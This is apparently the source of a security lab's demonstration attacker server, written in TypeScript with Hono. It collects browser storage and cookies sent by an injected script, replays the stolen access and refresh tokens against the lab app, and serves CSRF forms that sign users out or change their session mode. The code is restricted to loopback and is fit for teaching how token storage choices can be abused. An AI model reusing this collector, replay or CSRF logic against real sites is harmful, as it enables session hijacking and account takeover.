import { BlockList, isIP } from "node:net";
import { Hono } from "hono";
import { bodyLimit } from "hono/body-limit";
import { cors } from "hono/cors";
import { z } from "zod";
import { csrfPage, lootPage, modeSwitchFormFields } from "@/attacker/pages";
import { lootSchema, replay, tokensIn, type HeldTokens, type LabAddresses, type ReplayResult } from "@/attacker/replay";

const LOOPBACK = new BlockList();
LOOPBACK.addSubnet("127.0.0.0", 8, "ipv4");
LOOPBACK.addAddress("::1", "ipv6");

/** Whether a peer is this machine: the attacker's site is a demonstration, and answers nobody else. */
function isLoopbackPeer(address: string | undefined): boolean {
  if (!address) return false;
  const plain = address.startsWith("::ffff:") ? address.slice(7) : address;
  const family = isIP(plain);
  return family !== 0 && LOOPBACK.check(plain, family === 6 ? "ipv6" : "ipv4");
}

const csrfReportSchema = z.object({
  attempts: z
    .array(
      z.object({
        attempt: z.string().max(64),
        target: z.string().max(500),
        kind: z.string().max(64),
        observed: z.string().max(500),
      }),
    )
    .max(20),
});
type CsrfReport = z.infer<typeof csrfReportSchema> & { at: string };

/** What the attacker took, by name only: the tokens themselves are never shown or sent back. */
type Taken = {
  storageChoice: string | null;
  localStorageKeys: string[];
  sessionStorageKeys: string[];
  cookieNames: string[];
  /** Where the SPA's tokens were found (`localStorage`, `sessionStorage`), if anywhere. */
  tokensFoundIn: string[];
  accessToken: boolean;
  refreshToken: boolean;
};

/** The last demonstration, and nothing else: a new run replaces it. */
type Demonstration = { collectedAt: string | null; taken: Taken | null; replays: ReplayResult[]; csrf: CsrfReport | null };

/** Replays kept of one demonstration: the first and the latest few are all a page shows. */
const MAX_REPLAYS_KEPT = 20;

const emptyDemonstration = (): Demonstration => ({ collectedAt: null, taken: null, replays: [], csrf: null });

/** Answers JSON the lab's pages may read (CORS for the site's origin only), and takes JSON no larger than a page's storage. */
/** What @hono/node-server hands each request: the connection it came on. */
type Bindings = { incoming?: { socket: { remoteAddress?: string } } };

export function createAttackerApp(lab: LabAddresses): Hono<{ Bindings: Bindings }> {
  let demonstration = emptyDemonstration();
  // The stolen tokens, for the next replay of this demonstration only.
  let held: HeldTokens = {};
  const app = new Hono<{ Bindings: Bindings }>();

  app.use("*", async (context, next) => {
    if (!isLoopbackPeer(context.env.incoming?.socket.remoteAddress))
      return context.text("This demonstration answers only this machine.\n", 403);
    context.header("Cache-Control", "no-store");
    await next();
  });
  // The lab's pages may read the result; every other site's pages may not.
  app.use("/collect", cors({ origin: lab.siteOrigin, allowMethods: ["POST"], allowHeaders: ["content-type"] }));
  app.use("/result", cors({ origin: lab.siteOrigin, allowMethods: ["GET"] }));
  app.use("/csrf-result", cors({ origin: lab.siteOrigin, allowMethods: ["GET", "POST"], allowHeaders: ["content-type"] }));
  app.use("*", bodyLimit({ maxSize: 64 * 1024, onError: (context) => context.json({ error: "too_large" }, 413) }));

  const readJson = async (context: { req: { json: <T>() => Promise<T> } }): Promise<unknown> =>
    context.req.json<unknown>().catch(() => undefined);

  app.get("/health", (context) => context.json({ ok: true }));
  app.get("/", (context) =>
    context.html(
      `<!doctype html><title>Attacker</title><h1>The attacker's site (a demonstration)</h1><p>See <a href="/result">/result</a> and <a href="/csrf">/csrf</a>.</p>`,
    ),
  );
  app.get("/loot", (context) => context.html(lootPage()));

  app.post("/collect", async (context) => {
    const loot = lootSchema.safeParse(await readJson(context));
    if (!loot.success) return context.json({ error: "The loot is not what the injected script sends." }, 400);
    const found = tokensIn(loot.data);
    held = {
      ...(found.accessToken ? { accessToken: found.accessToken } : {}),
      ...(found.refreshToken ? { refreshToken: found.refreshToken } : {}),
    };
    const cookieNames = loot.data.cookies
      .split(";")
      .map((pair) => pair.split("=")[0]?.trim() ?? "")
      .filter((name) => name !== "");
    demonstration = {
      collectedAt: new Date().toISOString(),
      taken: {
        storageChoice: loot.data.storageChoice ?? null,
        localStorageKeys: Object.keys(loot.data.localStorage),
        sessionStorageKeys: Object.keys(loot.data.sessionStorage),
        cookieNames,
        tokensFoundIn: found.foundIn,
        accessToken: found.accessToken !== undefined,
        refreshToken: found.refreshToken !== undefined,
      },
      replays: [await replay(lab, held)],
      csrf: null,
    };
    return context.json(demonstration);
  });

  // Replays what the attacker holds again: after the real app refreshed, or once the access token has expired.
  app.post("/replay", async (context) => {
    if (!held.accessToken && !held.refreshToken) return context.json({ error: "The attacker holds no token." }, 409);
    demonstration.replays = [...demonstration.replays, await replay(lab, held)].slice(-MAX_REPLAYS_KEPT);
    return context.json(demonstration);
  });

  app.get("/result", (context) => context.json(demonstration));

  app.get("/csrf", async (context) => {
    const modeFields = await modeSwitchFormFields(lab.siteOrigin);
    return context.html(
      csrfPage(lab, [
        {
          id: "sign-out",
          label: "Sign out (Auth.js)",
          action: `${lab.siteOrigin}/api/auth/signout`,
          fields: [["callbackUrl", "/"]],
        },
        {
          id: "mode-change",
          label: "Change the session mode",
          action: `${lab.siteOrigin}/settings`,
          fields: [...modeFields, ["mode", "jwt"]],
        },
      ]),
    );
  });

  app.post("/csrf-result", async (context) => {
    const report = csrfReportSchema.safeParse(await readJson(context));
    if (!report.success) return context.json({ error: "Not a report of the CSRF page." }, 400);
    demonstration = { ...demonstration, csrf: { ...report.data, at: new Date().toISOString() } };
    return context.json(demonstration.csrf);
  });
  app.get("/csrf-result", (context) => context.json(demonstration.csrf));

  app.notFound((context) => context.json({ error: "not_found" }, 404));
  app.onError((error, context) => {
    console.error(`[attacker] ${error.name}`);
    return context.json({ error: "server_error" }, 500);
  });
  return app;
}
